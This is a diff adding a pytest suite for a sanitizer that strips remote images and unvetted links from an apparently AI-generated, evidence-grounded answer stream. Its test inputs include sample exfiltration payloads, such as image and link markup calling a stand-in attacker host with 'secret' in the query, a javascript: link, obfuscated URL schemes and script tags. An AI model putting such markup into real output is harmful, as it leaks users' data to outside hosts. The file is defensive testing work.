@@ -1,0 +1,156 @@
+"""What leaves: no remote image, no link to a place that the evidence does not name, and all else as it was."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ragways.core.outgoing import outgoing, settled
+from ragways.core.stream import OutgoingText
+from tests.rendered import dangers
+
+EVIDENCE = ["See https://docs.example.com/guide?x=1. Mirrors: http://ok.example and (https://ok.example/a)."]
+NATURAL = """Set `timeout` [1]: see [the guide](https://docs.example.com/guide?x=1) or https://evil.example/x for
+more [2].
+
+```python
+requests.get("https://api.example.com/v1?a=1&b=2", timeout=5)  # [a](https://evil.example/b)
+xs: List<Item> = items[0] (y)
+```
+
+- **First**: `Map<String, Item>` [1][3]
+- Second, data: 5 rows, *not* 6; see www.evil.example/y now [2, 3]
+
+| limit | meaning |
+|---|---:|
+| `connect` | to reach it [1] |
+| read | ![pixel](https://evil.example/p?q=secret) 5 |
+
+1. One! Two (2). Map<String, Item> and List<Item>
+2. [bad](https://evil.example/c) end
+"""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'requests.get("x")', "List<Item>, Map<String, Item>", "Data: 5 rows", "items[0] (y)", "a < b and c > d {x}",
+        "`https://evil.example`", "```\n<img src=https://evil.example>\n![a](https://evil.example)\n```",
+        "[guide](https://docs.example.com/guide?x=1)", "see http://ok.example/ or https://ok.example/a.",
+        "[rel](docs/a.md) and [part](#part)", "<b>bold</b> <br> <details open>", "    https://evil.example/code",
+        "![inline](data:image/png;base64,AAAA)", "C:\\new\\table", "if x <a =3 and y <b c=d",
+        "1 < 2 & 3 > 2 &lt; &amp;", "[1][2] [3, 4]",
+    ],
+)  # fmt: skip
+def test_what_is_harmless_is_untouched(text: str):
+    assert outgoing(text, EVIDENCE) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        ("![pixel](https://evil.example/p?q=secret)", "pixel"),
+        ("![pixel](https://docs.example.com/guide?x=1)", "pixel"),
+        ("[a](https://evil.example/?q=secret)", "a"),
+        ("[a](https://docs.example.com/guide?x=1&q=secret)", "a"),
+        ("[a](https://docs.example.com/guide)", "a"),
+        ("[a](//evil.example/x)", "a"),
+        ("[a](\\\\\\\\evil.example/x)", "a"),
+        ("[a](javascript:alert\\(1\\))", "a"),
+        ("[a](h&#116;tps://evil.example)", "a"),
+        ("[a](<https://evil.example/ x> 'title')", "a"),
+        ("[a\nb](https://evil.example)", "a\nb"),
+        ("[![i](https://evil.example/p)](https://evil.example/q)", "i"),
+        ("![a [x](https://evil.example/1)](https://evil.example/2)", "a x"),
+        ("<https://evil.example/?q>", "`https://evil.example/?q`"),
+        ("go to https://evil.example/?q=1. Now", "go to `https://evil.example/?q=1`. Now"),
+        ("[t][x]\n\n[x]: https://evil.example/r", "[t][x]\n\n"),
+        ("> - [a](https://evil.example) `[a](https://evil.example)`", "> - a `[a](https://evil.example)`"),
+        ("| x \\| [q](https://evil.example) |\n|--|\n| y |", "| x \\| q |\n|--|\n| y |"),
+        ('<img src="https://evil.example/p" alt="a chart"> x', "a chart x"),
+        ("<img src=https://evil.example/?q=secret&b=c> x", " x"),
+        ('<a href="https://evil.example">text</a>', "text"),
+        ("<script>\nfetch('/x')\n</script>", "&lt;script>\nfetch('/x')\n&lt;/script>"),
+        ("> " * 40 + "[a](https://evil.example)", None),
+        ("<div onclick=x>\n`<img src=https://evil.example>`\n</div>", None),
+    ],
+)
+def test_what_leads_elsewhere_does_not_leave(text: str, wanted: str | None):
+    said = outgoing(text, EVIDENCE)
+    assert wanted is None or said == wanted
+    assert not dangers(said, EVIDENCE)
+
+
+def test_where_no_document_was_shown_links_stay_and_images_do_not():
+    assert outgoing("[a](https://a.example) https://b.example ![c](https://c.example)") == (
+        "[a](https://a.example) https://b.example c"
+    )
+
+
+def test_an_answer_of_code_tables_and_lists_loses_only_what_leads_elsewhere():
+    assert outgoing(NATURAL, EVIDENCE) == (
+        NATURAL.replace("or https://evil.example/x for", "or `https://evil.example/x` for")
+        .replace("www.evil.example/y", "`www.evil.example/y`")
+        .replace("![pixel](https://evil.example/p?q=secret)", "pixel")
+        .replace("[bad](https://evil.example/c)", "bad")
+    )
+
+
+PIECES = st.sampled_from([
+    "a", "word ", "x. ", " ", "\n", "\n\n", "- ", "1. ", "> ", "# ", "| ", "|--|--|\n", "`", "``", "```\n", "~~~\n",
+    "[", "]", "(", ")", "![", "](https://evil.example/?q=1)", "](https://ok.example/a)", "https://evil.example/b ",
+    "www.evil.example ", "https://ok.example/a ", "<https://evil.example/c>", "<img src=https://evil.example/i alt=x>",
+    "<b>", "<div>\n", "</div>\n", "<a href='https://evil.example/a'>", "<script>", "<", "!", "\\",
+    "[x]: https://evil.example/r\n", "[t][x]", "![t][x]", "[y]: https://ok.example/a\n", "[t][y]", "![t][y]", "[1]",
+    "[2, 3]", "**", "_", "    ", "\t", "&#x68;ttps:", "//evil.example", "'", '"', "{", "=", "---\n", "]]", "\r\n",
+])  # fmt: skip
+
+
+@settings(max_examples=250, deadline=None)
+@given(st.lists(PIECES, max_size=14).map("".join))
+def test_no_text_and_no_beginning_of_one_leads_elsewhere(text: str):
+    said = outgoing(text, EVIDENCE)
+    assert not dangers(said, EVIDENCE)
+    assert outgoing(said, EVIDENCE) == said
+    for end in range(0, len(text), 3):
+        part = text[:end]
+        assert not dangers(outgoing(part[: settled(part)], EVIDENCE), EVIDENCE)
+
+
+def streamed(text: str, evidence: list[str]) -> list[tuple[str, bool]]:
+    pieces: list[tuple[str, bool]] = []
+
+    def take(text: str, *, restart: bool = False) -> None:
+        pieces.append((text, restart))
+
+    listener = OutgoingText(take)
+    listener.shown(evidence)
+    for at in range(0, len(text), 3):
+        listener(text[at : at + 3], restart=at == 0)
+    listener.end()
+    return pieces
+
+
+def test_a_stream_says_the_same_as_the_whole_and_takes_nothing_back():
+    pieces = streamed(NATURAL, EVIDENCE)
+    assert [restart for _, restart in pieces] == [True] + [False] * (len(pieces) - 1)
+    assert "".join(piece for piece, _ in pieces) == outgoing(NATURAL, EVIDENCE)
+    assert len(pieces) > 60, "words are handed on as they come"
+
+
+def test_a_stream_waits_for_the_end_of_a_link_and_no_longer():
+    pieces = [piece for piece, _ in streamed("One two [bad](https://evil.example/c) three four five.", EVIDENCE)]
+    text = "".join(pieces)
+    assert text == "One two bad three four five."
+    assert all("evil" not in piece for piece in pieces)
+    assert pieces[0].startswith("One")
+
+
+@pytest.mark.parametrize("text", ["[x](" * 20_000, "![" * 20_000, "<a " * 30_000, "https://e.example/a " * 1_000])
+def test_no_text_takes_long(text: str):
+    began = time.process_time()
+    outgoing(text, EVIDENCE)
+    assert time.process_time() - began < 10
